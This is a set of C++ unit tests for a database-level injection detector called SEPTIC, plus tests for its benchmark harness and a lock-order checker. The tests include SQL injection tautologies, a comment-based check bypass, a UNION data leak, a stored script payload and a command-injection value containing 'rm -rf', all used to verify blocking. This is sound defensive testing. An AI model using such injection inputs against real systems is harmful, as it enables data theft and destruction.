    db.execute(session,
               "SELECT balance FROM acct WHERE owner = 'a' OR 1 = 1");
    FAIL() << "attack must be blocked";
  } catch (const DbError& e) {
    EXPECT_EQ(e.code(), ErrorCode::kBlocked);
    EXPECT_NE(std::string(e.what()).find("transaction rolled back"),
              std::string::npos);
  }
  // The whole transaction died with the blocked statement.
  EXPECT_FALSE(db.in_transaction());
  EXPECT_EQ(balance(session, "a"), 100);
  txn::TxnStats ts = db.txn_stats();
  EXPECT_EQ(ts.aborted_on_block, 1u);
  EXPECT_EQ(ts.rolled_back, 1u);
  EXPECT_EQ(septic->stats().txn_blocked_stmts, 1u);
  // An orphan COMMIT after the forced rollback is a state error.
  EXPECT_THROW(db.execute(session, "COMMIT"), DbError);
  db.set_interceptor(nullptr);
}

TEST_F(MvccTest, DefaultPolicyKeepsTransactionOpenOnBlock) {
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  septic->set_mode(core::Mode::kTraining);
  db.execute(session, "SELECT balance FROM acct WHERE owner = 'a'");
  septic->set_mode(core::Mode::kPrevention);

  db.execute(session, "BEGIN");
  db.execute(session, "UPDATE acct SET balance = 7 WHERE owner = 'a'");
  EXPECT_THROW(db.execute(session, "SELECT balance FROM acct WHERE owner = "
                                   "'a' OR 1 = 1"),
               DbError);
  // Historical behavior: only the statement dropped; the work survives.
  EXPECT_TRUE(db.in_transaction());
  EXPECT_EQ(septic->stats().txn_blocked_stmts, 1u);
  EXPECT_EQ(db.txn_stats().aborted_on_block, 0u);
  db.execute(session, "COMMIT");
  EXPECT_EQ(balance(session, "a"), 7);
  db.set_interceptor(nullptr);
}

TEST_F(MvccTest, TxnStatsReconcile) {
  Session a("a"), b("b");
  db.execute(a, "BEGIN");
  db.execute(a, "COMMIT");
  db.execute(a, "BEGIN");
  db.execute(a, "ROLLBACK");
  db.execute(a, "BEGIN");
  db.execute(b, "BEGIN");
  db.execute(a, "UPDATE acct SET balance = 1 WHERE owner = 'a'");
  db.execute(b, "UPDATE acct SET balance = 2 WHERE owner = 'a'");
  db.execute(a, "COMMIT");
  EXPECT_THROW(db.execute(b, "COMMIT"), DbError);
  txn::TxnStats ts = db.txn_stats();
  EXPECT_EQ(ts.begun, 4u);
  EXPECT_EQ(ts.committed, 2u);
  EXPECT_EQ(ts.rolled_back, 2u);
  EXPECT_EQ(ts.conflicts, 1u);
  EXPECT_EQ(ts.aborted_on_block, 0u);
  EXPECT_EQ(ts.begun, ts.committed + ts.rolled_back);
  EXPECT_FALSE(db.in_transaction());
}

TEST(MvccNet, TransactionStateErrorsOverTcp) {
  Database db;
  db.execute_admin("CREATE TABLE t (x INT)");
  net::Server server(db, 0);
  server.start();
  {
    net::Client c(server.port());
    // Orphan COMMIT/ROLLBACK carry the TXN_STATE code over the wire.
    try {
      c.query("COMMIT");
      FAIL() << "orphan COMMIT must fail remotely";
    } catch (const net::RemoteError& e) {
      EXPECT_EQ(std::string(e.what()).rfind("TXN_STATE", 0), 0u) << e.what();
    }
    c.query("BEGIN");
    try {
      c.query("BEGIN");
      FAIL() << "nested BEGIN must fail remotely";
    } catch (const net::RemoteError& e) {
      EXPECT_EQ(std::string(e.what()).rfind("TXN_STATE", 0), 0u) << e.what();
    }
    // The open transaction still works after the rejected control stmt.
    c.query("INSERT INTO t VALUES (1)");
    c.query("COMMIT");
  }
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM t").rows[0][0].as_int(), 1);
  // Write-write conflict surfaces with its own wire code.
  {
    net::Client c1(server.port());
    net::Client c2(server.port());
    c1.query("BEGIN");
    c2.query("BEGIN");
    c1.query("UPDATE t SET x = 10");
    c2.query("UPDATE t SET x = 20");
    c1.query("COMMIT");
    try {
      c2.query("COMMIT");
      FAIL() << "conflicting COMMIT must fail remotely";
    } catch (const net::RemoteError& e) {
      EXPECT_EQ(std::string(e.what()).rfind("CONFLICT", 0), 0u) << e.what();
    }
  }
  EXPECT_EQ(db.execute_admin("SELECT x FROM t").rows[0][0].as_int(), 10);
  server.stop();
}

}  // namespace
}  // namespace septic::engine

// End-to-end attack-matrix tests over the full corpus: ground truth (every
// attack really succeeds with no protection beyond sanitizers), per-layer
// outcomes (WAF catches its documented subset), and the headline claim
// (SEPTIC prevention blocks everything with zero false positives).
#include <gtest/gtest.h>

#include <memory>

#include "attacks/corpus.h"
#include "engine/database.h"
#include "septic/septic.h"
#include "web/apps/tickets.h"
#include "web/apps/waspmon.h"
#include "web/stack.h"
#include "web/trainer.h"

namespace septic::attacks {
namespace {

struct Deployment {
  engine::Database db;
  std::unique_ptr<web::App> app;
  std::unique_ptr<web::WebStack> stack;
  std::shared_ptr<core::Septic> septic;

  explicit Deployment(const std::string& app_name, bool with_septic,
                      bool with_waf = false) {
    if (app_name == "tickets") {
      app = std::make_unique<web::apps::TicketsApp>();
    } else {
      app = std::make_unique<web::apps::WaspMonApp>();
    }
    app->install(db);
    stack = std::make_unique<web::WebStack>(*app, db);
    stack->config().waf_enabled = with_waf;
    if (with_septic) {
      septic = std::make_shared<core::Septic>();
      db.set_interceptor(septic);
      septic->set_mode(core::Mode::kTraining);
      web::train_on_application(*stack);
      septic->set_mode(core::Mode::kPrevention);
    }
  }

  /// Runs the chain; returns which layer blocked it ("" = not blocked).
  std::string run_chain(const AttackCase& attack) {
    for (const auto& setup : attack.setup) {
      web::Response r = stack->handle(setup);
      if (r.blocked()) return r.blocked_by;
    }
    web::Response r = stack->handle(attack.attack);
    return r.blocked_by;
  }
};

class AttackGroundTruth : public ::testing::TestWithParam<AttackCase> {};

// With only sanitization functions, every corpus attack gets through —
// these are precisely the semantic-mismatch / stored-payload cases.
TEST_P(AttackGroundTruth, SucceedsWithoutProtection) {
  const AttackCase& attack = GetParam();
  Deployment d(attack.app, /*with_septic=*/false);
  EXPECT_EQ(d.run_chain(attack), "") << attack.id << ": " << attack.name;
}

class AttackVsSeptic : public ::testing::TestWithParam<AttackCase> {};

TEST_P(AttackVsSeptic, BlockedBySepticPrevention) {
  const AttackCase& attack = GetParam();
  Deployment d(attack.app, /*with_septic=*/true);
  EXPECT_EQ(d.run_chain(attack), "septic")
      << attack.id << ": " << attack.name;
}

class AttackVsWaf : public ::testing::TestWithParam<AttackCase> {};

TEST_P(AttackVsWaf, WafOutcomeMatchesGroundTruthFlag) {
  const AttackCase& attack = GetParam();
  Deployment d(attack.app, /*with_septic=*/false, /*with_waf=*/true);
  std::string by = d.run_chain(attack);
  if (attack.waf_should_catch) {
    EXPECT_EQ(by, "waf") << attack.id << ": " << attack.name;
  } else {
    EXPECT_EQ(by, "") << attack.id << ": " << attack.name
                      << " (expected WAF false negative)";
  }
}

INSTANTIATE_TEST_SUITE_P(Corpus, AttackGroundTruth,
                         ::testing::ValuesIn(all_attacks()),
                         [](const auto& info) { return info.param.id; });
INSTANTIATE_TEST_SUITE_P(Corpus, AttackVsSeptic,
                         ::testing::ValuesIn(all_attacks()),
                         [](const auto& info) { return info.param.id; });
INSTANTIATE_TEST_SUITE_P(Corpus, AttackVsWaf,
                         ::testing::ValuesIn(all_attacks()),
                         [](const auto& info) { return info.param.id; });

// ---------------------------------------------------------- effect checks

TEST(AttackEffects, T2ActuallyBypassesCreditCardCheckWithoutSeptic) {
  Deployment d("tickets", false);
  // Wrong credit card + injected comment: the ticket comes back anyway.
  web::Response r = d.stack->handle(web::Request::get(
      "/ticket", {{"reservID", std::string("ID34FG") + kModifierApostrophe +
                                   "-- "},
                  {"creditCard", "0"}}));
  ASSERT_TRUE(r.ok());
  EXPECT_NE(r.body.find("Alice Traveler"), std::string::npos)
      << "the attack should have leaked the ticket";
}

TEST(AttackEffects, T5UnionLeaksProfilesWithoutSeptic) {
  Deployment d("tickets", false);
  web::Response r = d.stack->handle(all_attacks()[4].attack);  // T5
  ASSERT_TRUE(r.ok());
  EXPECT_NE(r.body.find("alice"), std::string::npos)
      << "UNION should have exfiltrated the profiles table";
}

TEST(AttackEffects, W3StoresTheScriptWithoutSeptic) {
  Deployment d("waspmon", false);
  auto battery = waspmon_attacks();
  d.stack->handle(battery[2].attack);  // W3 stored XSS
  auto rs = d.db.execute_admin(
      "SELECT fullname FROM users WHERE username = 'hello'");
  ASSERT_EQ(rs.rows.size(), 1u);
  EXPECT_NE(rs.rows[0][0].as_string().find("<script>"), std::string::npos);
}

TEST(AttackEffects, W3PayloadNeverStoredWithSeptic) {
  Deployment d("waspmon", true);
  auto battery = waspmon_attacks();
  d.stack->handle(battery[2].attack);
  auto rs = d.db.execute_admin(
      "SELECT COUNT(*) FROM users WHERE username = 'hello'");
  EXPECT_EQ(rs.rows[0][0].as_int(), 0);
}

// ------------------------------------------------------------- benign side

class BenignNeverBlocked
    : public ::testing::TestWithParam<const char*> {};

TEST_P(BenignNeverBlocked, FullStackNoFalsePositives) {
  const std::string app = GetParam();
  Deployment d(app, /*with_septic=*/true, /*with_waf=*/true);
  for (const auto& probe : benign_probes(app)) {
    web::Response r = d.stack->handle(probe);
    EXPECT_FALSE(r.blocked()) << app << ": " << probe.to_string() << " -> "
                              << r.blocked_by << " (" << r.body << ")";
    EXPECT_TRUE(r.ok()) << probe.to_string() << ": " << r.body;
  }
}

INSTANTIATE_TEST_SUITE_P(Apps, BenignNeverBlocked,
                         ::testing::Values("tickets", "waspmon"));

TEST(BenignWorkload, RepeatedWorkloadNeverFlagged) {
  Deployment d("waspmon", true);
  for (int round = 0; round < 3; ++round) {
    for (const auto& r : d.app->workload()) {
      web::Response resp = d.stack->handle(r);
      EXPECT_FALSE(resp.blocked()) << r.to_string();
    }
  }
  EXPECT_EQ(d.septic->stats().sqli_detected, 0u);
  EXPECT_EQ(d.septic->stats().stored_detected, 0u);
}

// SEPTIC detection mode logs but does not block (Table I).
TEST(DetectionMode, AttacksLoggedNotBlocked) {
  Deployment d("tickets", true);
  d.septic->set_mode(core::Mode::kDetection);
  auto battery = tickets_attacks();
  for (const auto& attack : battery) {
    for (const auto& s : attack.setup) d.stack->handle(s);
    web::Response r = d.stack->handle(attack.attack);
    EXPECT_FALSE(r.blocked()) << attack.id;
  }
  EXPECT_GT(d.septic->stats().sqli_detected, 0u);
  EXPECT_EQ(d.septic->stats().dropped, 0u);
}

}  // namespace
}  // namespace septic::attacks

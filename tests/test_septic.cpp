// Tests for the Septic interceptor: Table I mode/action semantics,
// incremental learning, persistence across "restarts", stats and events.
#include "septic/septic.h"

#include <gtest/gtest.h>

#include "engine/database.h"
#include "engine/error.h"

namespace septic::core {
namespace {

class SepticTest : public ::testing::Test {
 protected:
  void SetUp() override {
    db.execute_admin(
        "CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, a TEXT, b INT)");
    db.execute_admin("INSERT INTO t (a, b) VALUES ('x', 1), ('y', 2)");
    septic = std::make_shared<Septic>();
    db.set_interceptor(septic);
  }

  void train(std::string_view q) {
    septic->set_mode(Mode::kTraining);
    db.execute(session, q);
  }

  engine::Database db;
  engine::Session session;
  std::shared_ptr<Septic> septic;
};

TEST_F(SepticTest, TrainingLearnsAndExecutes) {
  septic->set_mode(Mode::kTraining);
  auto rs = db.execute(session, "SELECT a FROM t WHERE b = 1");
  EXPECT_EQ(rs.rows.size(), 1u);  // Table I: training executes the query
  EXPECT_EQ(septic->store().model_count(), 1u);
  EXPECT_EQ(septic->event_log().count_of(EventKind::kModelCreated), 1u);
}

TEST_F(SepticTest, TrainingDeduplicatesModels) {
  septic->set_mode(Mode::kTraining);
  db.execute(session, "SELECT a FROM t WHERE b = 1");
  db.execute(session, "SELECT a FROM t WHERE b = 42");
  EXPECT_EQ(septic->store().model_count(), 1u);
  EXPECT_EQ(septic->event_log().count_of(EventKind::kModelCreated), 1u);
}

TEST_F(SepticTest, PreventionBlocksAndLogsAttack) {
  train("SELECT a FROM t WHERE b = 1");
  septic->set_mode(Mode::kPrevention);
  uint64_t executed_before = db.executed_count();
  EXPECT_THROW(db.execute(session, "SELECT a FROM t WHERE b = 1 OR 1 = 1"),
               engine::DbError);
  // Table I prevention row: log yes, drop yes, exec no.
  EXPECT_EQ(db.executed_count(), executed_before);
  EXPECT_EQ(septic->event_log().count_of(EventKind::kSqliDetected), 1u);
  EXPECT_EQ(septic->event_log().count_of(EventKind::kQueryDropped), 1u);
  EXPECT_EQ(septic->stats().dropped, 1u);
}

TEST_F(SepticTest, DetectionLogsButExecutes) {
  train("SELECT a FROM t WHERE b = 1");
  septic->set_mode(Mode::kDetection);
  // Table I detection row: log yes, drop no, exec yes.
  auto rs = db.execute(session, "SELECT a FROM t WHERE b = 1 OR 1 = 1");
  EXPECT_EQ(rs.rows.size(), 2u);  // tautology returned everything
  EXPECT_EQ(septic->event_log().count_of(EventKind::kSqliDetected), 1u);
  EXPECT_EQ(septic->event_log().count_of(EventKind::kQueryDropped), 0u);
}

TEST_F(SepticTest, BenignQueryPassesInPrevention) {
  train("SELECT a FROM t WHERE b = 1");
  septic->set_mode(Mode::kPrevention);
  auto rs = db.execute(session, "SELECT a FROM t WHERE b = 2");
  EXPECT_EQ(rs.rows.size(), 1u);
  EXPECT_EQ(septic->event_log().count_of(EventKind::kQueryProcessed), 1u);
}

TEST_F(SepticTest, IncrementalLearningOnUnknownId) {
  septic->set_mode(Mode::kPrevention);
  // Never trained: incremental learning stores the model and lets it run.
  auto rs = db.execute(session, "SELECT b FROM t WHERE a = 'x'");
  EXPECT_EQ(rs.rows.size(), 1u);
  EXPECT_EQ(septic->store().model_count(), 1u);
  EXPECT_EQ(septic->event_log().count_of(EventKind::kModelCreated), 1u);
  // Second occurrence now compares against the learned model.
  EXPECT_THROW(
      db.execute(session, "SELECT b FROM t WHERE a = 'x' OR 1 = 1"),
      engine::DbError);
}

TEST_F(SepticTest, StrictModeBlocksUnknownIds) {
  septic->set_incremental_learning(false);
  septic->set_mode(Mode::kPrevention);
  EXPECT_THROW(db.execute(session, "SELECT b FROM t WHERE a = 'x'"),
               engine::DbError);
  EXPECT_EQ(septic->store().model_count(), 0u);
}

TEST_F(SepticTest, SqliToggleOffDisablesStructuralDetection) {
  train("SELECT a FROM t WHERE b = 1");
  septic->set_mode(Mode::kPrevention);
  septic->set_sqli_detection(false);  // the Fig. 5 "N?" configurations
  auto rs = db.execute(session, "SELECT a FROM t WHERE b = 1 OR 1 = 1");
  EXPECT_EQ(rs.rows.size(), 2u);
  EXPECT_EQ(septic->stats().sqli_detected, 0u);
}

TEST_F(SepticTest, StoredToggleControlsPluginDetection) {
  septic->set_mode(Mode::kPrevention);
  // INSERT with an XSS payload; unknown ID learns incrementally, but the
  // stored-injection plugins still run.
  EXPECT_THROW(
      db.execute(session,
                 "INSERT INTO t (a, b) VALUES ('<script>x</script>', 1)"),
      engine::DbError);
  EXPECT_EQ(septic->stats().stored_detected, 1u);

  septic->set_stored_detection(false);
  auto rs = db.execute(
      session, "INSERT INTO t (a, b) VALUES ('<script>y</script>', 1)");
  EXPECT_EQ(rs.affected_rows, 1);
}

TEST_F(SepticTest, StoredDetectionReportsPluginName) {
  septic->set_mode(Mode::kPrevention);
  try {
    db.execute(session,
               "INSERT INTO t (a, b) VALUES ('x; rm -rf /tmp/z', 1)");
    FAIL();
  } catch (const engine::DbError& e) {
    EXPECT_NE(std::string(e.what()).find("OSCI"), std::string::npos);
  }
}

TEST_F(SepticTest, PersistenceSurvivesRestart) {
  train("SELECT a FROM t WHERE b = 1");
  septic->save_models("/tmp/septic_test_models.qm");

  // Simulate a DBMS restart with a fresh SEPTIC instance.
  auto fresh = std::make_shared<Septic>();
  fresh->load_models("/tmp/septic_test_models.qm");
  db.set_interceptor(fresh);
  fresh->set_mode(Mode::kPrevention);

  EXPECT_EQ(fresh->event_log().count_of(EventKind::kModelLoaded), 1u);
  auto rs = db.execute(session, "SELECT a FROM t WHERE b = 2");
  EXPECT_EQ(rs.rows.size(), 1u);
  EXPECT_THROW(db.execute(session, "SELECT a FROM t WHERE b = 2 OR 1 = 1"),
               engine::DbError);
}

TEST_F(SepticTest, ExternalIdSeparatesCallSites) {
  septic->set_mode(Mode::kTraining);
  db.execute(session, "/* ID:app:site1 */ SELECT a FROM t WHERE b = 1");
  db.execute(session, "/* ID:app:site2 */ SELECT a FROM t WHERE b = 'x'");
  EXPECT_EQ(septic->store().id_count(), 2u);

  septic->set_mode(Mode::kPrevention);
  // site1 learned INT: a quoted string there is a mimicry attack.
  EXPECT_THROW(
      db.execute(session, "/* ID:app:site1 */ SELECT a FROM t WHERE b = 'x'"),
      engine::DbError);
  // site2 legitimately uses strings.
  EXPECT_NO_THROW(
      db.execute(session, "/* ID:app:site2 */ SELECT a FROM t WHERE b = 'y'"));
}

TEST_F(SepticTest, StatsCounters) {
  train("SELECT a FROM t WHERE b = 1");
  septic->set_mode(Mode::kPrevention);
  db.execute(session, "SELECT a FROM t WHERE b = 2");
  try {
    db.execute(session, "SELECT a FROM t WHERE b = 2 OR 1 = 1");
  } catch (const engine::DbError&) {
  }
  SepticStats stats = septic->stats();
  EXPECT_EQ(stats.queries_seen, 3u);
  EXPECT_EQ(stats.models_created, 1u);
  EXPECT_EQ(stats.sqli_detected, 1u);
  EXPECT_EQ(stats.dropped, 1u);
}

TEST_F(SepticTest, ModeChangesAreLogged) {
  septic->set_mode(Mode::kPrevention);
  septic->set_mode(Mode::kDetection);
  EXPECT_EQ(septic->event_log().count_of(EventKind::kModeChanged), 2u);
  EXPECT_EQ(septic->mode(), Mode::kDetection);
}

TEST_F(SepticTest, EventSinkReceivesLiveEvents) {
  size_t sink_calls = 0;
  septic->event_log().set_sink([&](const Event&) { ++sink_calls; });
  septic->set_mode(Mode::kTraining);
  db.execute(session, "SELECT a FROM t WHERE b = 1");
  EXPECT_GE(sink_calls, 2u);  // mode change + model created
}

TEST_F(SepticTest, EventFormatIsReadable) {
  train("SELECT a FROM t WHERE b = 1");
  auto events = septic->event_log().events_of(EventKind::kModelCreated);
  ASSERT_EQ(events.size(), 1u);
  std::string line = EventLog::format(events[0]);
  EXPECT_NE(line.find("MODEL_CREATED"), std::string::npos);
  EXPECT_NE(line.find("SELECT a FROM t"), std::string::npos);
}

TEST_F(SepticTest, DetectionStepRecordedInEvents) {
  train("SELECT a FROM t WHERE b = 1");
  septic->set_mode(Mode::kDetection);
  db.execute(session, "SELECT a FROM t WHERE b = 1 OR 1 = 1");  // structural
  db.execute(session, "SELECT a FROM t WHERE b = 'q'");         // mimicry
  auto events = septic->event_log().events_of(EventKind::kSqliDetected);
  ASSERT_EQ(events.size(), 2u);
  EXPECT_EQ(events[0].detection_step, 1);
  EXPECT_EQ(events[1].detection_step, 2);
}

}  // namespace
}  // namespace septic::core

// The benchmark harness is a small library; its correctness underwrites
// every number in EXPERIMENTS.md, so it is tested like any other module.
#include "../bench/harness.h"

#include <gtest/gtest.h>

namespace septic::bench {
namespace {

TEST(Harness, ConfigNames) {
  EXPECT_STREQ(septic_config_name(SepticConfig::kVanilla), "vanilla");
  EXPECT_STREQ(septic_config_name(SepticConfig::kNN), "NN");
  EXPECT_STREQ(septic_config_name(SepticConfig::kYN), "YN");
  EXPECT_STREQ(septic_config_name(SepticConfig::kNY), "NY");
  EXPECT_STREQ(septic_config_name(SepticConfig::kYY), "YY");
}

TEST(Harness, VanillaDeploymentHasNoSeptic) {
  Deployment d = make_deployment("tickets", SepticConfig::kVanilla);
  EXPECT_EQ(d.septic, nullptr);
  EXPECT_EQ(d.db->interceptor(), nullptr);
}

TEST(Harness, ConfigTogglesMatchRequested) {
  Deployment yn = make_deployment("tickets", SepticConfig::kYN);
  ASSERT_NE(yn.septic, nullptr);
  // config_snapshot(): one coherent snapshot per deployment instead of a
  // full Config copy per field read.
  auto yn_cfg = yn.septic->config_snapshot();
  EXPECT_TRUE(yn_cfg->detect_sqli);
  EXPECT_FALSE(yn_cfg->detect_stored);
  EXPECT_EQ(yn.septic->mode(), core::Mode::kPrevention);

  Deployment ny = make_deployment("tickets", SepticConfig::kNY);
  auto ny_cfg = ny.septic->config_snapshot();
  EXPECT_FALSE(ny_cfg->detect_sqli);
  EXPECT_TRUE(ny_cfg->detect_stored);

  Deployment nn = make_deployment("tickets", SepticConfig::kNN);
  auto nn_cfg = nn.septic->config_snapshot();
  EXPECT_FALSE(nn_cfg->detect_sqli);
  EXPECT_FALSE(nn_cfg->detect_stored);
}

TEST(Harness, DeploymentIsTrainedBeforePrevention) {
  Deployment d = make_deployment("waspmon", SepticConfig::kYY);
  EXPECT_GT(d.septic->store().model_count(), 0u);
}

TEST(Harness, PrepopulationGrowsTables) {
  Deployment small = make_deployment("addressbook", SepticConfig::kVanilla);
  Deployment big =
      make_deployment("addressbook", SepticConfig::kVanilla, 500);
  auto count = [](Deployment& dep) {
    return dep.db->execute_admin("SELECT COUNT(*) FROM contacts")
        .rows[0][0]
        .as_int();
  };
  EXPECT_GE(count(big), count(small) + 500);
}

TEST(Harness, RunWorkloadCollectsEveryRequest) {
  Deployment d = make_deployment("tickets", SepticConfig::kVanilla);
  const int browsers = 2, loops = 3;
  LatencyStats stats = run_workload(d, browsers, loops);
  EXPECT_EQ(stats.requests,
            d.app->workload().size() * browsers * loops);
  EXPECT_EQ(stats.errors, 0u);
  EXPECT_GT(stats.mean_us, 0.0);
  EXPECT_GT(stats.trimmed_mean_us, 0.0);
  EXPECT_GE(stats.p95_us, stats.p50_us);
  EXPECT_GE(stats.p99_us, stats.p95_us);
  EXPECT_GE(stats.max_us, stats.p99_us);
  EXPECT_GT(stats.throughput_rps, 0.0);
}

TEST(Harness, WorkloadWithSepticHasNoFalsePositives) {
  Deployment d = make_deployment("zerocms", SepticConfig::kYY);
  LatencyStats stats = run_workload(d, 2, 2);
  EXPECT_EQ(stats.errors, 0u);
  EXPECT_EQ(d.septic->stats().sqli_detected, 0u);
  EXPECT_EQ(d.septic->stats().stored_detected, 0u);
}

TEST(Harness, OverheadPercentMath) {
  LatencyStats base;
  base.mean_us = 100;
  LatencyStats measured;
  measured.mean_us = 103;
  EXPECT_NEAR(overhead_percent(base, measured), 3.0, 1e-9);
  LatencyStats zero;
  EXPECT_EQ(overhead_percent(zero, measured), 0.0);
}

TEST(Harness, EnvKnobsHaveSaneDefaults) {
  EXPECT_GT(bench_browsers(), 0);
  EXPECT_GT(bench_loops(), 0);
  EXPECT_GT(bench_rounds(), 0);
  EXPECT_GT(bench_rows(), 0);
}

TEST(Harness, EveryAppNameResolves) {
  for (const char* app :
       {"tickets", "waspmon", "addressbook", "refbase", "zerocms"}) {
    Deployment d = make_deployment(app, SepticConfig::kVanilla);
    EXPECT_EQ(d.app->name(), app);
    EXPECT_FALSE(d.app->workload().empty());
  }
}

}  // namespace
}  // namespace septic::bench

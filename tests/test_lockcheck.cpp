// Unit tests for the lockcheck pipeline: spec parsing, summary extraction
// (guards, try-locks, scoped unlock/relock, accessor and parameter
// resolution), interprocedural propagation, and each finding class.
// End-to-end byte-exact coverage lives in test_lockcheck_golden.cpp.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "analysis/lockcheck/lock_check.h"
#include "analysis/lockcheck/lock_extract.h"
#include "analysis/lockcheck/lock_spec.h"

namespace septic::analysis::lockcheck {
namespace {

constexpr const char* kSpecText = R"(
# test hierarchy
level A::outer_mu_
level B::mid_mu_
level C::inner_mu_
leaf L::leaf_mu_
blocking C::barrier
noblock C::barrier A::outer_mu_
crashcover C::persist
)";

LockSpec parse_spec() {
  LockSpec spec;
  std::string err;
  EXPECT_TRUE(spec.parse(kSpecText, &err)) << err;
  return spec;
}

CodeModel model_of(const std::string& source) {
  return extract_model({{"t.cpp", source}});
}

LockReport check(const std::string& source) {
  LockSpec spec = parse_spec();
  return check_model(model_of(source), spec, "test.spec");
}

std::vector<std::string> classes_of(const LockReport& r) {
  std::vector<std::string> out;
  for (const LockFinding& f : r.findings) out.push_back(f.klass);
  return out;
}

// ---- spec ----------------------------------------------------------------

TEST(LockSpec, RanksFollowDeclarationOrder) {
  LockSpec spec = parse_spec();
  EXPECT_EQ(spec.rank("A::outer_mu_"), 0u);
  EXPECT_EQ(spec.rank("C::inner_mu_"), 2u);
  EXPECT_EQ(spec.rank("L::leaf_mu_"), LockSpec::npos);
  EXPECT_TRUE(spec.is_leaf("L::leaf_mu_"));
  EXPECT_TRUE(spec.knows("B::mid_mu_"));
  EXPECT_FALSE(spec.knows("Nobody::mu_"));
}

TEST(LockSpec, OrderAllowsDownTheChainOnly) {
  LockSpec spec = parse_spec();
  EXPECT_TRUE(spec.order_ok("A::outer_mu_", "B::mid_mu_"));
  EXPECT_TRUE(spec.order_ok("A::outer_mu_", "C::inner_mu_"));
  EXPECT_FALSE(spec.order_ok("C::inner_mu_", "A::outer_mu_"));
  EXPECT_FALSE(spec.order_ok("A::outer_mu_", "A::outer_mu_"));
  // Leaves: acquirable under any chain lock, terminal otherwise.
  EXPECT_TRUE(spec.order_ok("C::inner_mu_", "L::leaf_mu_"));
  EXPECT_FALSE(spec.order_ok("L::leaf_mu_", "C::inner_mu_"));
  EXPECT_FALSE(spec.order_ok("L::leaf_mu_", "L::leaf_mu_"));
}

TEST(LockSpec, MalformedLinesAreRejectedWithLineNumbers) {
  LockSpec spec;
  std::string err;
  EXPECT_FALSE(spec.parse("level a\nfrobnicate b\n", &err));
  EXPECT_NE(err.find(":2:"), std::string::npos) << err;
  EXPECT_FALSE(spec.parse("level\n", &err));
  EXPECT_FALSE(spec.parse("noblock fn\n", &err));
  EXPECT_TRUE(spec.parse("# only comments\n\n", &err));
}

// ---- extraction ----------------------------------------------------------

TEST(LockExtract, GuardsAndHeldSets) {
  CodeModel m = model_of(R"(
    #include <mutex>
    class A {
     public:
      void f() {
        std::lock_guard lock(outer_mu_);
        g();
      }
      void g() {}
     private:
      std::mutex outer_mu_;
    };
  )");
  ASSERT_EQ(m.classes.count("A"), 1u);
  EXPECT_EQ(m.classes["A"].mutex_members.count("outer_mu_"), 1u);
  const FunctionModel& f = m.functions.at("A::f");
  ASSERT_EQ(f.acquires.size(), 1u);
  EXPECT_EQ(f.acquires[0].lock, "A::outer_mu_");
  EXPECT_TRUE(f.acquires[0].resolved);
  EXPECT_TRUE(f.acquires[0].held.empty());
  ASSERT_EQ(f.calls.size(), 1u);
  ASSERT_EQ(f.calls[0].held.size(), 1u);
  EXPECT_EQ(f.calls[0].held[0], "A::outer_mu_");
}

TEST(LockExtract, ScopeEndReleasesAndUnlockIsModeled) {
  CodeModel m = model_of(R"(
    #include <mutex>
    class A {
     public:
      void scoped() {
        { std::lock_guard lock(outer_mu_); }
        std::lock_guard lock2(mid_mu_);
      }
      void manual() {
        std::unique_lock lk(outer_mu_);
        lk.unlock();
        std::unique_lock lk2(mid_mu_);
        lk.lock();
      }
     private:
      std::mutex outer_mu_;
      std::mutex mid_mu_;
    };
  )");
  const FunctionModel& s = m.functions.at("A::scoped");
  ASSERT_EQ(s.acquires.size(), 2u);
  EXPECT_TRUE(s.acquires[1].held.empty()) << "scope end must release";
  const FunctionModel& man = m.functions.at("A::manual");
  ASSERT_EQ(man.acquires.size(), 3u);
  EXPECT_TRUE(man.acquires[1].held.empty()) << "unlock() must release";
  // Relock via lk.lock(): mid_mu_ is held at that point.
  ASSERT_EQ(man.acquires[2].held.size(), 1u);
  EXPECT_EQ(man.acquires[2].held[0], "A::mid_mu_");
}

TEST(LockExtract, TryLockAndSharedAndAccessor) {
  CodeModel m = model_of(R"(
    #include <mutex>
    #include <shared_mutex>
    class B {
     public:
      std::mutex& mid_mu() { return mid_mu_; }
     private:
      std::mutex mid_mu_;
    };
    class A {
     public:
      void f() {
        std::unique_lock lk(outer_mu_, std::try_to_lock);
        std::shared_lock rd(shared_mu_);
        std::lock_guard via(b_.mid_mu());
      }
     private:
      std::mutex outer_mu_;
      std::shared_mutex shared_mu_;
      B b_;
    };
  )");
  EXPECT_EQ(m.classes["B"].mutex_accessors.at("mid_mu"), "mid_mu_");
  const FunctionModel& f = m.functions.at("A::f");
  ASSERT_EQ(f.acquires.size(), 3u);
  EXPECT_TRUE(f.acquires[0].try_lock);
  EXPECT_TRUE(f.acquires[1].shared);
  EXPECT_EQ(f.acquires[2].lock, "B::mid_mu_") << "accessor must resolve";
}

TEST(LockExtract, ParametersAndNestedClassesResolve) {
  CodeModel m = model_of(R"(
    #include <mutex>
    struct T { std::mutex inner_mu_; };
    class Q {
     public:
      struct Shard { std::mutex mu; };
      void f(T& t) { std::lock_guard lock(t.inner_mu_); }
      void g() {
        Shard& s = shard();
        std::lock_guard lock(s.mu);
      }
     private:
      Shard& shard();
    };
  )");
  EXPECT_EQ(m.classes.count("Q::Shard"), 1u);
  EXPECT_EQ(m.functions.at("Q::f").acquires.at(0).lock, "T::inner_mu_");
  EXPECT_EQ(m.functions.at("Q::g").acquires.at(0).lock, "Q::Shard::mu");
}

TEST(LockExtract, AnnotationMacrosAreTransparent) {
  CodeModel m = model_of(R"(
    #include <mutex>
    class A {
     public:
      void locked_helper() SEPTIC_REQUIRES(outer_mu_);
      void f() { std::lock_guard lock(outer_mu_); }
     private:
      std::mutex outer_mu_ SEPTIC_ACQUIRE_AFTER(something);
      int count_ SEPTIC_GUARDED_BY(outer_mu_) = 0;
    };
  )");
  EXPECT_EQ(m.classes["A"].mutex_members.count("outer_mu_"), 1u);
  EXPECT_EQ(m.functions.at("A::f").acquires.at(0).lock, "A::outer_mu_");
}

TEST(LockExtract, ThreadConstructorArgumentsEscapeTheLockContext) {
  CodeModel m = model_of(R"(
    #include <mutex>
    #include <thread>
    class A {
     public:
      void spawn() {
        std::lock_guard lock(outer_mu_);
        worker_ = std::thread([this] { body(); });
      }
      void body() {}
     private:
      std::mutex outer_mu_;
      std::thread worker_;
    };
  )");
  // The lambda runs on a new thread: no call event under outer_mu_.
  EXPECT_TRUE(m.functions.at("A::spawn").calls.empty());
}

